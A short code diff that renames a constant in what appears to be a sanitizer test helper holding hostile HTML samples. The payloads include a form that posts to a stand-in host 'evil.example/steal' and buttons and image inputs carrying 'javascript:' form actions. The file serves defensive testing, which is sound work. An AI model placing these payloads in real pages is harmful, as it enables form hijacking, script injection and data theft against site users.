@@ -15,13 +15,13 @@ export function hostileHtml(count: number): readonly HostileHtml[] {
   const all = readSamples('security').flatMap(({ json }) =>
     (json as { id: string; payload: string }[]).map(({ id, payload }) => ({ id, html: payload })),
   );
-  if (isFull || all.length === 0) return [...OWN, ...all];
+  if (isFull || all.length === 0) return [...OWN_ATTACKS, ...all];
   console.info(`${count} of ${all.length} attacks, SEED=${SEED}; FULL=1 checks them all.`);
-  return [...OWN, ...pickSample(all, count)];
+  return [...OWN_ATTACKS, ...pickSample(all, count)];
 }
 
 /** Attacks on the forms of this portal. */
-const OWN: readonly HostileHtml[] = [
+const OWN_ATTACKS: readonly HostileHtml[] = [
   '<form action="https://evil.example/steal" method="post" target="_blank"><input name="a" value="1"><button>Go</button></form>',
   '<button formaction="javascript:alert(1)" formmethod="dialog" formtarget="_top">Go</button>',
   '<input type="image" src="https://evil.example/i.png" formaction="javascript:alert(1)" name="i">',
